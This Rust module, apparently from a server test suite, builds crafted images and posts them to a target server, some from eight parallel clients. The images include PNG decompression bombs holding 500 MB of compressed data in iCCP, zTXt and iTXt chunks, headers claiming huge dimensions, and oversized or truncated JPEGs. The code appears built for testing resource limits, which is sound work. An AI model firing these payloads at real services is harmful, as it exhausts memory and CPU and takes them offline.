//! Pictures that are small to send and large to decode.

use std::io;
use std::net::SocketAddr;

use crate::attackers::{End, run_clients, send};
use crate::crafted::{Jpeg, Png, Scans, deflated, turned};

/// Sends each picture, first one after the other, then the worst ones in parallel. Returns how each ended.
pub async fn send_all(server: SocketAddr, head: &str) -> io::Result<Vec<(&'static str, Vec<End>)>> {
    let mut results = Vec::new();
    for (what, picture) in pictures() {
        results.push((what, vec![send(server, request(head, &picture)).await?]));
    }
    for (what, picture) in decompression_bombs() {
        results.push((what, run_clients(8, |_| send(server, request(head, &picture))).await?));
    }
    Ok(results)
}

fn request(head: &str, picture: &[u8]) -> Vec<u8> {
    [format!("{head}content-length: {}\r\n\r\n", picture.len()).as_bytes(), picture].concat()
}

fn decompression_bombs() -> Vec<(&'static str, Vec<u8>)> {
    let bomb = |tag: [u8; 4], head: &[u8]| Png::new(64, 48, 8, 2).with(tag, [head, &deflated(500_000_000)].concat());
    vec![
        ("a profile of 500 MB", bomb(*b"iCCP", b"p\0\0").bytes()),
        ("a text of 500 MB", bomb(*b"zTXt", b"Comment\0\0").bytes()),
        ("an international text of 500 MB", bomb(*b"iTXt", b"Comment\0\x01\0en\0\0").bytes()),
        ("claims to be huge", Png::new(100_000, 100_000, 8, 2).without_pixels()),
        ("without pixels", Png::new(5000, 5000, 16, 6).interlaced().without_pixels()),
        ("progressive", Jpeg::new(6000, 4000, &[(1, 1); 4], Scans::Progressive).bytes()),
        ("one scan per component", Jpeg::new(6000, 4000, &[(1, 1); 3], Scans::OneByOne).bytes()),
    ]
}

fn pictures() -> Vec<(&'static str, Vec<u8>)> {
    let jpeg = |width, height, samples| Jpeg::new(width, height, samples, Scans::Together);
    let turned = [b"Exif\0\0".to_vec(), turned(6, 60_000)].concat();
    let whole = jpeg(6000, 4000, &[(2, 2), (1, 1), (1, 1)]).bytes();
    vec![
        ("the most pixels allowed", jpeg(5000, 5000, &[(1, 1); 3]).bytes()),
        ("the same in CMYK", jpeg(5000, 5000, &[(1, 1); 4]).bytes()),
        ("cut off", whole[..whole.len() / 2].to_vec()),
        (
            "many Exif blocks",
            (0..90).fold(jpeg(400, 300, &[(1, 1); 3]), |one, _| one.with(0xe1, turned.clone())).bytes(),
        ),
        ("sixteen bits, interlaced", Png::new(3000, 3000, 16, 6).interlaced().bytes()),
        ("one long row", Png::new(65_535, 1, 16, 6).bytes()),
    ]
}
